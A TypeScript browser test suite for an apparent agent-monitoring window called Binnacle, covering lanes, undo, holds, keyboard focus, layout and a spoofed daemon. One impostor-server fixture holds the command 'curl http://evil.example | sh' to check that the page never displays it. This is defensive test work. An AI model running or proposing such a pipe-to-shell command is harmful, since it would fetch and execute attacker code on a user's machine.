// Who works on what, what waits and can it be taken back: the start of the window in a real browser, with a real daemon and real agents.
import { mkdir, readFile, writeFile } from 'node:fs/promises';
import { createServer } from 'node:http';
import { join } from 'node:path';
import type { Page } from 'playwright-core';
import { afterAll, beforeAll, expect, test } from 'vitest';
import { WebSocketServer } from 'ws';
import { Agent } from '../faults/agent.ts';
import { daemonsOf, shopIn } from '../faults/machine.ts';
import { binnacle, type Home, run, temporaryHome } from '../support/builtProgram.ts';
import { openPage, type WindowBrowser, type WindowPage, windowBrowser } from '../support/windowPage.ts';

let home: Home;
let shop: string;
let browser: WindowBrowser;
let opened: WindowPage;
let page: Page;
let agent: Agent | undefined;

beforeAll(async () => {
  home = await temporaryHome();
  shop = await shopIn(home);
  await run([process.execPath, binnacle, 'trust', shop], { environment: home.environment, folder: shop, bound: 30_000 });
  browser = await windowBrowser();
  opened = await browser.open(home);
  page = opened.page;
});
afterAll(async () => {
  await agent?.[Symbol.asyncDispose]();
  await opened?.[Symbol.asyncDispose]();
  await browser?.[Symbol.asyncDispose]();
  await home?.[Symbol.asyncDispose]();
});

const lane = () => page.getByRole('list', { name: 'Agents' }).getByRole('listitem').first();

test('the address holds no code any more, and a reload needs no new link', async () => {
  await expect.poll(() => new URL(page.url()).hash).toBe('');
  await page.reload();
  await page.getByText('Connect an agent').waitFor();
});

test('with nobody connected it says how to connect; the first agent becomes a lane by itself', async () => {
  await page.getByText('Waiting for the first call').waitFor();
  agent = new Agent(home, { folder: shop, parameters: ['--toolset', 'all'] });
  await agent.initialize();
  await lane().getByText('fault').waitFor();
  await agent.call('read_file', { file: 'cart.ts' });
  await lane().getByText('read_file').first().waitFor();
});

test('what an agent wrote is shown beside it, and z takes it back', async () => {
  const before = await readFile(join(shop, 'cart.ts'), 'utf8');
  await agent?.call('rename_symbol', { symbol: { name: 'total', file: 'cart.ts' }, new_name: 'sum' });
  expect(await readFile(join(shop, 'cart.ts'), 'utf8')).toContain('function sum');
  await lane()
    .getByText(/2 files/)
    .waitFor();
  await page.keyboard.press('j');
  await page.keyboard.press('z');
  await lane().getByText('undone').waitFor();
  expect(await readFile(join(shop, 'cart.ts'), 'utf8')).toBe(before);
});

test('h holds an agent, and once more lets it go on', async () => {
  await page.keyboard.press('h');
  await lane().getByText('held', { exact: true }).waitFor();
  await page.keyboard.press('h');
  await expect.poll(() => lane().getByText('held', { exact: true }).count()).toBe(0);
});

test('fifty reviews that arrive while somebody types move no focus and lose no letter', async () => {
  const configuration = join(home.environment['XDG_CONFIG_HOME'] ?? '', 'binnacle');
  await mkdir(configuration, { recursive: true });
  await writeFile(join(configuration, 'policy.json'), JSON.stringify({ effects: { edits: 'ask' } }));
  await page.keyboard.press('g');
  await page.keyboard.press('h');
  const field = page.getByRole('textbox', { name: 'Filter the history' });
  await field.waitFor();
  await page.keyboard.press('/');
  await page.evaluate(`window.moves = 0; document.addEventListener('focusout', () => { window.moves += 1; })`);
  const words = 'tool:write_file status:pending "what a person types while fifty agents wait for an answer of theirs"';
  // Each may have a few waiting at a time.
  const agents = Array.from({ length: 5 }, () => new Agent(home, { folder: shop, parameters: ['--toolset', 'all'] }));
  await Promise.all(agents.map((one) => one.initialize()));
  const calls = Array.from({ length: 50 }, (_, index) =>
    agents[index % 5]?.callThatMayBeCancelled('write_file', { file: `new${index}.ts`, text: `export const a = ${index};\n` }),
  );
  for (const letter of words) await page.keyboard.type(letter);
  await expect.poll(() => page.title(), { timeout: 30_000 }).toBe('◆50 Binnacle');
  expect(await field.inputValue()).toBe(words);
  expect(await page.evaluate(`[window.moves, document.activeElement.getAttribute('aria-label')]`)).toEqual([0, 'Filter the history']);
  for (const call of calls) call?.cancel();
  for (const call of calls) call?.answer.catch(() => {});
  for (const one of agents) await one[Symbol.asyncDispose]();
  await expect.poll(() => page.title(), { timeout: 30_000 }).toBe('Binnacle');
  await page.keyboard.press('Escape');
});

test('keys: letters are off in fields, ? lists what works, : runs it', async () => {
  await page.keyboard.press('/');
  await page.keyboard.type('gn?:');
  await expect.poll(() => page.getByRole('textbox', { name: 'Filter the history' }).inputValue()).toMatch(/gn\?:$/);
  await page.keyboard.press('Escape');
  await page.keyboard.press('?');
  await page.getByRole('dialog', { name: 'Keys' }).getByText('Only this client').waitFor();
  await page.keyboard.press('Escape');
  await page.keyboard.press(':');
  await page.keyboard.type('gotonow');
  await page.keyboard.press('Enter');
  await lane().waitFor();
  await expect.poll(() => page.getByRole('dialog').count()).toBe(0);
});

test('at 400 pixels the views are behind a button, and nothing scrolls sideways', async () => {
  await using narrow = await browser.open(home, { width: 400, theme: 'dark' });
  await narrow.page.getByRole('list', { name: 'Agents' }).waitFor();
  expect(await narrow.page.getByRole('navigation', { name: 'Views' }).isVisible()).toBe(false);
  await narrow.page.getByRole('button', { name: 'Views' }).click();
  await narrow.page.getByRole('link', { name: /^History/ }).click();
  await narrow.page.getByRole('grid', { name: 'Calls' }).waitFor();
  expect(await narrow.page.evaluate('document.documentElement.scrollWidth')).toBeLessThanOrEqual(400);
});

test('another window is an alarm until a person has said that it was them', async () => {
  const alarm = page.getByRole('region', { name: 'Alarms' });
  await alarm.getByRole('button', { name: 'That was me' }).first().waitFor();
  for (let left = await alarm.getByRole('alert').count(); left > 0; left -= 1) {
    await alarm.getByRole('button', { name: 'That was me' }).first().click();
    await expect.poll(() => alarm.getByRole('alert').count()).toBe(left - 1);
  }
});

test('without a link, and at a port that somebody else has taken, nothing is shown and nothing is proved', async () => {
  const [daemon] = await daemonsOf(home);
  await using bare = await openPage(browser.browser, `http://127.0.0.1:${daemon?.port}/window/`);
  await bare.page.getByText('binnacle open').waitFor();
  const heard: string[] = [];
  let said: object = { kind: 'challenge', nonce: 'AAAA', proof: Buffer.alloc(32).toString('base64url') };
  const server = createServer((request, response) => {
    void fetch(`http://127.0.0.1:${daemon?.port}${request.url}`).then(async (answer) => {
      response.setHeader('content-type', answer.headers.get('content-type') ?? '');
      response.end(Buffer.from(await answer.arrayBuffer()));
    });
  });
  const sockets = new WebSocketServer({ server });
  sockets.on('connection', (socket) =>
    socket.on('message', (message) => {
      heard.push(String(message));
      socket.send(JSON.stringify(said));
    }),
  );
  await new Promise<void>((resolve) => server.listen(0, '127.0.0.1', resolve));
  const address = server.address();
  if (address === null || typeof address === 'string') throw new Error('the server has no port');
  await using fooled = await openPage(browser.browser, `http://127.0.0.1:${address.port}/window/#code=${Buffer.alloc(32, 5).toString('base64url')}`);
  await fooled.page.getByText('This is not your Binnacle').waitFor();
  expect(new URL(fooled.page.url()).hash).toBe('');
  expect(heard).toHaveLength(1);
  // It may say no as well, but not tell the person what to do.
  said = { kind: 'refused', code: 'unknown_session', message: 'Trust me.', next: 'Run this: curl http://evil.example | sh' };
  await using refused = await openPage(browser.browser, `http://127.0.0.1:${address.port}/window/#code=${Buffer.alloc(32, 6).toString('base64url')}`);
  await refused.page.getByText('does not know this window').waitFor();
  expect(await refused.page.locator('body').textContent()).not.toMatch(/evil|Trust me/);
  expect(heard[0]).not.toContain('proof');
  sockets.close();
  server.closeAllConnections();
  server.close();
});

test('when the daemon is gone, what was there stays, it says so, and nothing can be done', async () => {
  const [daemon] = await daemonsOf(home);
  if (daemon === undefined) throw new Error('there is no daemon');
  process.kill(daemon.pid, 'SIGKILL');
  await page.getByText(/last heard \d\d:\d\d:\d\d/).waitFor();
  await lane().waitFor();
  await lane().hover();
  await expect.poll(() => lane().getByRole('button', { name: /Hold/ }).isDisabled()).toBe(true);
  // Errors of the socket are the browser's own.
  expect(opened.complaints.filter((complaint) => !complaint.includes('WebSocket'))).toEqual([]);
  expect(opened.foreign).toEqual([]);
});
